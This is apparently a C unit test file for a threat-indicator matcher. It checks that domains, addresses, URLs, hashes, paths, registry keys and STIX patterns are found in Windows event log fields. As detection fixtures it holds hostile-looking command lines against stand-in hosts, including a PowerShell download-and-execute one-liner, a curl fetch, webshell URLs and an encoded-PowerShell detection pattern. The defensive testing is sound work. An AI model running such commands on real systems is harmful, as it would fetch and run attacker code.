/* indicators_look_test.c - an indicator is met in whatever form an event has it, and
 * not where it is not. */
#include "tests/support/indicators_build.h"
#include "tests/support/story.h"

#define DATA "winlog.event_data."
#define MD5 "d41d8cd98f00b204e9800998ecf8427e"
#define SHA256 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

static void network(void)
{
    TEST ("a domain is met with what is below it, not with what only ends so") {
        struct feed f = feed_of("evil.example\nupdate.co.example");
        CHECK(feed_has(&f, DATA "QueryName", "EVIL.example", "domain evil.example;"));
        CHECK(feed_has(&f, DATA "QueryName", "a.b.evil.example.", "domain evil.example;"));
        CHECK(feed_has(&f, DATA "QueryName", "notevil.example", ""));
        CHECK(feed_has(&f, DATA "QueryName", "evil.example.org", ""));
        CHECK(feed_has(&f, "url.original", "http://x@www.evil.example:8080/a",
                       "domain evil.example;"));
        CHECK(feed_has(&f, "process.command_line",
                       "powershell iwr('https://cdn.evil.example/a.ps1')|iex",
                       "domain evil.example;"));
        CHECK(feed_has(&f, DATA "ScriptBlockText", "$c = \"cmd\"; # see evil.example.",
                       "domain evil.example;"));
        CHECK(feed_has(&f, "anything.at.all", "evil_example evil-example evilXexample", ""));
        feed_free(&f);
    }

    TEST ("addresses are met with ports, mapped, in networks and in text") {
        struct feed f =
            feed_of("192.0.2.1\n198.51.100.0/24\n198.51.100.0/25\n2001:db8::/32\n2001:db8::7\n");
        CHECK(feed_has(&f, "source.ip", "192.0.2.1", "ip 192.0.2.1;"));
        CHECK(feed_has(&f, DATA "IpAddress", "::ffff:192.0.2.1", "ip 192.0.2.1;"));
        CHECK(feed_has(&f, DATA "ClientAddress", "192.0.2.1:50000", "ip 192.0.2.1;"));
        CHECK(feed_has(&f, "source.ip", "192.0.2.10", ""));
        CHECK(feed_has(&f, "source.ip", "198.51.100.200", "network 198.51.100.0/24;"));
        CHECK(feed_has(&f, "source.ip", "198.51.100.100",
                       "network 198.51.100.0/24;network 198.51.100.0/25;"));
        CHECK(feed_has(&f, "source.ip", "198.51.101.1", ""));
        CHECK(feed_has(&f, DATA "DestinationIp", "2001:0db8:0:0:0:0:0:7",
                       "ip 2001:db8::7;network 2001:db8::/32;"));
        CHECK(feed_has(&f, "message", "connect to [2001:db8::7]:443 failed",
                       "ip 2001:db8::7;network 2001:db8::/32;"));
        CHECK(feed_has(&f, "message", "ping 192.0.2.1, then 10.192.0.2.1", "ip 192.0.2.1;"));
        CHECK(feed_has(&f, "message", "version 1192.0.2.1 or 192.0.2.1.5", ""));
        feed_free(&f);
    }

    TEST ("a URL is met with another scheme, port written out, and a query more") {
        struct feed f = feed_of("http://evil.example/a.php\nuri: /wp-content/shell.php");
        CHECK(feed_has(&f, "url.original", "https://EVIL.example:443/a.php#x",
                       "url evil.example/a.php;"));
        CHECK(feed_has(&f, "url.original", "http://evil.example/a.php?cmd=id",
                       "url evil.example/a.php;"));
        CHECK(feed_has(&f, "url.original", "http://evil.example/a.phpx", ""));
        CHECK(feed_has(&f, "url.original", "/wp-content/shell.php?c=1",
                       "url /wp-content/shell.php;"));
        CHECK(feed_has(&f, "process.command_line", "curl -o x \"http://evil.example/a.php\";",
                       "url evil.example/a.php;"));
        feed_free(&f);
    }

    TEST ("e-mail addresses, user agents") {
        struct feed f = feed_of("who@evil.example\nuser-agent: Evil/1.0 (x)\n");
        CHECK(
            feed_has(&f, "message", "from=<Who@evil.example>, size=1", "email who@evil.example;"));
        CHECK(feed_has(&f, "message", "nowho@evil.example", ""));
        CHECK(feed_has(&f, "user_agent.original", "evil/1.0 (X)", "user_agent evil/1.0 (x);"));
        CHECK(feed_has(&f, "user_agent.original", "Evil/1.0 (x) more", ""));
        feed_free(&f);
    }
}

static void files(void)
{
    TEST ("hashes are met in any text, however cased") {
        struct feed f = feed_of(MD5 "\n" SHA256);
        CHECK(feed_has(&f, DATA "Hashes", "SHA1=0,MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=0",
                       "md5 " MD5 ";"));
        CHECK(feed_has(&f, "file.hash.sha256", SHA256, "sha256 " SHA256 ";"));
        CHECK(feed_has(&f, "message", SHA256 "0", ""));
        feed_free(&f);
    }

    TEST ("paths are met whatever the drive is called") {
        struct feed f = feed_of("C:\\Windows\\Temp\\x.exe\nq.dll\n%APPDATA%\\Evil\\y.exe");
        CHECK(feed_has(&f, DATA "Image", "C:\\WINDOWS\\temp\\X.exe",
                       "file_path /windows/temp/x.exe;"));
        CHECK(feed_has(&f, DATA "Image", "\\Device\\HarddiskVolume3\\Windows\\Temp\\x.exe",
                       "file_path /windows/temp/x.exe;"));
        CHECK(feed_has(&f, "file.path", "Windows/Temp/x.exe", "file_path /windows/temp/x.exe;"));
        CHECK(feed_has(&f, "file.path", "/old/Windows/Temp/x.exe", ""));
        CHECK(feed_has(&f, "file.path", "/a/b/Q.DLL", "file_name q.dll;"));
        CHECK(feed_has(&f, "file.path", "/a/b/qq.dll", ""));
        CHECK(feed_has(&f, DATA "TargetFilename", "C:\\Users\\a\\AppData\\Roaming\\Evil\\y.exe",
                       "path_end /appdata/roaming/evil/y.exe;"));
        CHECK(feed_has(&f, "process.command_line", "rundll32 \"c:\\windows\\temp\\x.exe\",a",
                       "file_path /windows/temp/x.exe;"));
        CHECK(feed_has(&f, "process.command_line", "rundll32 C:\\p\\q.dll,Start",
                       "file_name q.dll;"));
        feed_free(&f);
    }

    TEST ("a key of the registry is met under its other names, with what is below it") {
        struct feed f =
            feed_of("HKLM\\SYSTEM\\CurrentControlSet\\Services\\Evil\nHKCU\\Software\\Evil");
        CHECK(feed_has(&f, DATA "TargetObject",
                       "HKLM\\System\\CurrentControlSet\\Services\\Evil\\ImagePath",
                       "registry_key hklm/system/currentcontrolset/services/evil;"));
        CHECK(feed_has(&f, DATA "ObjectName",
                       "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\evil",
                       "registry_key hklm/system/currentcontrolset/services/evil;"));
        CHECK(feed_has(&f, DATA "TargetObject", "HKU\\S-1-5-21-1-2-3-1001\\Software\\Evil",
                       "registry_key hkcu/software/evil;"));
        CHECK(feed_has(&f, DATA "TargetObject", "HKLM\\System\\CurrentControlSet\\Services\\Evil2",
                       ""));
        CHECK(feed_has(&f, "process.command_line", "reg add hkcu\\software\\evil /v a",
                       "registry_key hkcu/software/evil;"));
        feed_free(&f);
    }

    TEST ("mutexes and pipes") {
        struct feed f = feed_of("mutex: Evil\npipe: evilpipe");
        CHECK(feed_has(&f, DATA "ObjectName", "\\Sessions\\1\\BaseNamedObjects\\Evil",
                       "mutex evil;"));
        CHECK(feed_has(&f, DATA "ObjectName", "\\BaseNamedObjects\\Global\\Evil", "mutex evil;"));
        CHECK(feed_has(&f, DATA "PipeName", "\\evilpipe", "pipe evilpipe;"));
        CHECK(feed_has(&f, "process.command_line", "evil evilpipe", ""));
        feed_free(&f);
    }
}

static size_t look_two(struct feed *f, const char *first, const char *second)
{
    static const struct ak_str NAMES[] = { AK_STR_INIT("file.path"), AK_STR_INIT("file.hash.md5") };
    static const struct ak_shape SHAPE = { AK_STR_INIT("t"), AK_STR_INIT("t"), NAMES, 2 };
    struct ak_value v[2] = { ak_val_str(ak_str_of(first)), ak_val_str(ak_str_of(second)) };
    const struct ak_indicator_match *matches;
    return ak_indicators_look(f->look, &(struct ak_event){ .shape = &SHAPE, .values = v },
                              &matches);
}

int main(void)
{
    network();
    files();

    TEST ("a pattern with AND needs all its parts in one event") {
        struct feed f = feed_of("{\"objects\":[{\"type\":\"indicator\",\"pattern\":\"[file:name = "
                                "'a.exe' AND file:hashes.MD5 = '" MD5 "']\"}]}");
        CHECK(look_two(&f, "/x/a.exe", MD5) == 1);
        CHECK(look_two(&f, "/x/b.exe", MD5) == 0);
        CHECK(look_two(&f, "/x/a.exe", "") == 0);
        CHECK(look_two(&f, "/x/a.exe", MD5) == 1);
        feed_free(&f);
    }

    TEST ("wildcards: '%' is any text, '_' any character") {
        struct feed f = feed_of(
            "{\"objects\":[{\"type\":\"indicator\",\"pattern\":\"[file:name LIKE 'ev_l%.exe' OR "
            "domain-name:value LIKE '%.evil.%' OR process:command_line LIKE '%-enc %']\"}]}");
        CHECK(feed_has(&f, "file.path", "/a/EVIL-2.exe", "file_name ev_l%.exe;"));
        CHECK(feed_has(&f, "file.path", "/a/evl.exe", ""));
        CHECK(feed_has(&f, DATA "QueryName", "a.evil.example", "domain %.evil.%;"));
        CHECK(
            feed_has(&f, "process.command_line", "powershell -enc AAAA", "command_line %-enc %;"));
        feed_free(&f);
    }

    TEST ("a path with wildcards in a list") {
        struct feed f = feed_of("C:\\Users\\*\\AppData\\q?.exe");
        CHECK(feed_has(&f, DATA "Image", "D:\\Users\\mio\\AppData\\Q1.exe",
                       "file_path /users/%/appdata/q_.exe;"));
        CHECK(feed_has(&f, DATA "Image", "D:\\Users\\mio\\AppData\\Q12.exe", ""));
        feed_free(&f);
    }

    TEST ("UTF-16 texts and hashes as bytes") {
        struct feed f = feed_of("evil.example\n" MD5);
        static const struct ak_str NAMES[] = { AK_STR_INIT("a"), AK_STR_INIT("b") };
        static const struct ak_shape SHAPE = { AK_STR_INIT("t"), AK_STR_INIT("t"), NAMES, 2 };
        static const uint8_t WIDE[] = "E\0v\0i\0l\0.\0e\0x\0a\0m\0p\0l\0e\0";
        static const uint8_t HASH[] = { 0xd4, 0x1d, 0x8c, 0xd9, 0x8f, 0,    0xb2, 4,
                                        0xe9, 0x80, 9,    0x98, 0xec, 0xf8, 0x42, 0x7e };
        struct ak_value v[2] = { ak_val_str16((struct ak_bytes){ WIDE, 24 }),
                                 ak_val_bytes((struct ak_bytes){ HASH, 16 }) };
        const struct ak_indicator_match *m;
        CHECK(ak_indicators_look(f.look, &(struct ak_event){ .shape = &SHAPE, .values = v }, &m) ==
              2);
        CHECK_STR(m[0].field, "a");
        CHECK_STR(m[1].value, MD5);
        feed_free(&f);
    }

    TEST ("a text seen before gives the same again, whether it held something or not") {
        struct feed f = feed_of("evil.example");
        for (unsigned i = 0; i < 3; i++) {
            CHECK(feed_has(&f, "message", "go to evil.example", "domain evil.example;"));
            CHECK(feed_has(&f, "message", "go to good.example", ""));
            CHECK(feed_has(&f, "source.domain", "good.example", ""));
        }
        feed_free(&f);
    }

    TEST ("more matches than are told are not a crash") {
        struct ak_buf list = { 0 }, text = { 0 };
        for (unsigned i = 0; i < 500; i++) {
            ak_buf_printf(&list, "d%u.example\n", i);
            ak_buf_printf(&text, "d%u.example ", i);
        }
        ak_buf_u8(&list, 0);
        ak_buf_u8(&text, 0);
        struct feed f = feed_of((const char *)list.at);
        const char *got = feed_look(&f, "message", (const char *)text.at);
        size_t n = 0;
        for (; *got; got++)
            n += *got == ';';
        CHECK(n == AK_INDICATOR_MATCHES_MAX);
        feed_free(&f);
        ak_buf_free(&list);
        ak_buf_free(&text);
    }

    return story_report();
}
